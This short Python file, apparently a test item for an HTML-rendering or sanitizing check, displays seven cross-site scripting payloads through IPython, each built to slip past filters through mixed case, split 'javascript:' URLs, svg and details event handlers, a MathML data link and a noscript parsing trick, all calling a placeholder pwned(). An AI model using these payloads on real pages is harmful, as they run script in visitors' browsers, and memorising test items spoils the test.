"""Display HTML whose elements run code at events, in the spellings that filters overlook.

Wins: page.
"""

# %% after
from IPython.display import HTML, display

display(HTML("<img src=x onerror=pwned()>"))
display(HTML("<IMG SRC=x OnError\n=\n'pwned()'>"))
display(HTML("<svg/onload=pwned()>"))
display(HTML("<details open ontoggle=pwned()>"))
display(HTML("<a href='java\nscript:pwned()'>grade</a>"))
display(HTML("<math><mi//xlink:href='data:x,<script>pwned()</script>'>"))
display(HTML("<noscript><p title='</noscript><img src=x onerror=pwned()>'>"))
